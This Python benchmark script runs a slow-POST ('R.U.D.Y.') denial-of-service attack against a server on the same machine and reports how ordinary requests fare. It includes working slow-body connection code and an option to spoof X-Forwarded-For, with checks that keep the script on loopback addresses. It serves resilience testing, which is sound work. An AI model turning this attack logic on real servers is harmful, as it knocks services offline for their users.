"""The slow-body attack ("R.U.D.Y.", slow POST) against a running server, and what ordinary
clients see meanwhile.

    python -m bench.slow_clients --url http://127.0.0.1:8000                  # issue 25's target run
    python -m bench.slow_clients --url http://127.0.0.1:8000 --sources 127.0.1.1-100 --no-reopen

Slow clients connect from `--sources` (loopback addresses only: 127.0.0.2 by default, a
range such as 127.0.1.1-100 for many addresses), send the headers of `POST /sample` with a
Content-Length of 100,000 bytes and then one byte every `--interval` seconds, and reopen a
connection as soon as the server closes one (unless --no-reopen). Ordinary clients, from
127.0.0.1, send `POST /sample {"n": 1}` back to back. It prints the ordinary requests'
statuses (overall and after `--settle` seconds), the slow connections' answers and how long
the server held each, and the recovery time: when the last ordinary request that failed was
sent, counted from the attack's start.

The test suite (tests/service/test_slow_clients.py) runs the same functions, shorter."""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import httpx

BODY_BYTES = 100_000


@dataclass
class SlowConnection:
    source: str
    held: float  # seconds from connecting until the server closed it (or the run ended)
    status: int | None  # the status line the server sent, if any
    closed_by_server: bool


@dataclass
class Ordinary:
    sent: float  # seconds after the attack started
    latency: float
    status: int | str  # HTTP status, or the exception's name


@dataclass
class Report:
    duration: float
    slow: list[SlowConnection] = field(default_factory=list)
    ordinary: list[Ordinary] = field(default_factory=list)

    def ordinary_ok(self, after: float = 0.0) -> float:
        chosen = [o for o in self.ordinary if o.sent >= after]
        return sum(o.status == 200 for o in chosen) / len(chosen) if chosen else 0.0

    def recovered_at(self) -> float:
        """When the last failed ordinary request was sent (0.0: none failed)."""
        return max((o.sent for o in self.ordinary if o.status != 200), default=0.0)

    def longest_hold(self) -> float:
        return max((c.held for c in self.slow), default=0.0)

    def summary(self) -> dict[str, object]:
        """What a run saw, as JSON-ready numbers (for a run inside a container)."""
        return {
            "slow_opened": len(self.slow),
            "slow_answers": dict(Counter(str(c.status) for c in self.slow if c.closed_by_server)),
            "slow_still_open": sum(not c.closed_by_server for c in self.slow),
            "longest_hold_s": round(self.longest_hold(), 2),
            "ordinary": len(self.ordinary),
            "ordinary_ok": self.ordinary_ok(),
        }

    def lines(self, settle: float) -> list[str]:
        statuses = Counter(o.status for o in self.ordinary)
        answers = Counter(c.status if c.closed_by_server else "still open" for c in self.slow)
        by_server = sorted(c.held for c in self.slow if c.closed_by_server)
        median = by_server[len(by_server) // 2] if by_server else 0.0
        return [
            f"ordinary requests: {len(self.ordinary)} in {self.duration:.0f} s, "
            f"{self.ordinary_ok():.2%} answered 200 ({self.ordinary_ok(settle):.2%} after the first "
            f"{settle:g} s); statuses {dict(statuses)}",
            f"ordinary latency p50 {_percentile([o.latency for o in self.ordinary], 0.5) * 1000:.1f} ms, "
            f"p99 {_percentile([o.latency for o in self.ordinary], 0.99) * 1000:.1f} ms; last failure sent "
            f"at {self.recovered_at():.1f} s",
            f"slow connections: {len(self.slow)} opened from {len({c.source for c in self.slow})} "
            f"address(es); answers {dict(answers)}; held by the server: median {median:.1f} s, "
            f"longest {self.longest_hold():.1f} s",
        ]


def _percentile(values: list[float], p: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(p * len(ordered)))] if ordered else 0.0


def loopback_sources(spec: str) -> list[str]:
    """`127.0.0.2`, `127.0.1.1-100` (the last byte's range) or a comma-separated list of those:
    loopback addresses only, so that this never sends traffic anywhere but this machine."""
    sources: list[str] = []
    for part in spec.split(","):
        base, _, last = part.strip().partition("-")
        first = ipaddress.IPv4Address(base)
        count = int(last) - int(base.rsplit(".", 1)[1]) + 1 if last else 1
        sources += [str(first + k) for k in range(count)]
    for source in sources:
        if not ipaddress.IPv4Address(source).is_loopback:
            raise ValueError(
                f"{source} is not a loopback address: slow clients run against this machine only"
            )
    return sources


async def slow_body(
    host: str,
    port: int,
    source: str,
    until: float,
    report: Report,
    interval: float = 7.0,
    reopen: bool = True,
    forwarded_for: str | None = None,
    prefix: int = 0,
    path: str = "/sample",
) -> None:
    """One slow client: the headers, then a byte every `interval` s, reconnecting when closed.
    `forwarded_for`: an X-Forwarded-For header to send (a proxy's, or a spoofing attempt).
    `prefix`: bytes of the body sent at once before the trickle (more than a balancer buffers)."""
    forwarded = f"X-Forwarded-For: {forwarded_for}\r\n" if forwarded_for else ""
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: application/json\r\n"
        f"{forwarded}Content-Length: {BODY_BYTES}\r\n\r\n"
    ).encode()
    while time.monotonic() < until:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened = time.monotonic()
        status: int | None = None
        closed = False
        answer = b""
        try:
            writer.write(head + b"1" * prefix)
            while True:
                try:
                    data = await asyncio.wait_for(reader.read(65536), timeout=interval)
                except TimeoutError:
                    if time.monotonic() >= until:
                        break
                    writer.write(b"1")
                    await writer.drain()
                    continue
                if not data:
                    closed = True
                    break
                answer += data
                if status is None and b"\r\n" in answer:
                    status = int(answer.split(b" ", 2)[1])
        except (ConnectionError, OSError):
            closed = True
        finally:
            writer.close()
        report.slow.append(SlowConnection(source, time.monotonic() - opened, status, closed))
        if not reopen:
            return


async def ordinary_client(
    url: str, origin: float, until: float, report: Report, source: str | None = "127.0.0.1"
) -> None:
    """Back-to-back `POST /sample {"n": 1}` from `source` (None: the route's own address)."""
    transport = httpx.AsyncHTTPTransport(local_address=source)
    async with httpx.AsyncClient(base_url=url, transport=transport, timeout=10.0) as client:
        while time.monotonic() < until:
            sent = time.monotonic()
            try:
                status: int | str = (await client.post("/sample", json={"n": 1})).status_code
            except httpx.HTTPError as exc:
                status = type(exc).__name__
            report.ordinary.append(Ordinary(sent - origin, time.monotonic() - sent, status))


async def attack(
    url: str,
    sources: list[str],
    connections: int,
    duration: float,
    interval: float = 7.0,
    reopen: bool = True,
    ordinary: int = 4,
    grace: float = 0.0,
    forwarded: bool = False,
    prefix: int = 0,
    ordinary_source: str | None = "127.0.0.1",
) -> Report:
    """`connections` slow clients spread over `sources` for `duration` s, with `ordinary`
    ordinary clients beside them; the slow ones still open at the end are closed by us then.
    `grace`: how long the ordinary clients go on after the slow ones stop. `forwarded`: each
    slow connection says in X-Forwarded-For that it relays another client, 10.9.x.y."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    report = Report(duration)
    origin = time.monotonic()
    until = origin + duration
    slow = [
        slow_body(
            host,
            port,
            sources[k % len(sources)],
            until,
            report,
            interval,
            reopen,
            forwarded_for=f"10.9.{k // 250}.{k % 250 + 1}" if forwarded else None,
            prefix=prefix,
        )
        for k in range(connections)
    ]
    load = [ordinary_client(url, origin, until + grace, report, ordinary_source) for _ in range(ordinary)]
    await asyncio.gather(*slow, *load)
    return report


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m bench.slow_clients", description=__doc__.split("\n\n")[0]
    )
    parser.add_argument("--url", default="http://127.0.0.1:8000", help="the server (loopback)")
    parser.add_argument(
        "--sources", default="127.0.0.2", help="slow clients' addresses: 127.0.0.2, 127.0.1.1-100"
    )
    parser.add_argument("--connections", type=int, default=200)
    parser.add_argument("--duration", type=float, default=40.0)
    parser.add_argument("--interval", type=float, default=7.0, help="seconds between a slow client's bytes")
    parser.add_argument("--ordinary", type=int, default=4, help="ordinary clients, back to back")
    parser.add_argument("--settle", type=float, default=15.0, help="report the ordinary 200s after this")
    parser.add_argument("--no-reopen", dest="reopen", action="store_false")
    parser.add_argument(
        "--forwarded",
        action="store_true",
        help="each slow connection claims another client in X-Forwarded-For",
    )
    parser.add_argument(
        "--prefix", type=int, default=0, help="body bytes each slow client sends at once before trickling"
    )
    args = parser.parse_args(argv)
    host = urlsplit(args.url).hostname or ""
    if host != "localhost" and not ipaddress.ip_address(host).is_loopback:
        parser.error(f"{host} is not a loopback address: run this against a server on this machine only")
    report = asyncio.run(
        attack(
            args.url,
            loopback_sources(args.sources),
            args.connections,
            args.duration,
            args.interval,
            args.reopen,
            args.ordinary,
            forwarded=args.forwarded,
            prefix=args.prefix,
        )
    )
    print(
        f"{args.connections} slow connections from {args.sources} for {args.duration:g} s "
        f"({args.prefix} bytes, then a byte every {args.interval:g} s; "
        f"{'reopened' if args.reopen else 'not reopened'}), "
        f"{args.ordinary} ordinary clients from 127.0.0.1 against {args.url}"
    )
    for line in report.lines(args.settle):
        print("  " + line)
    return 0


if __name__ == "__main__":
    sys.exit(main())
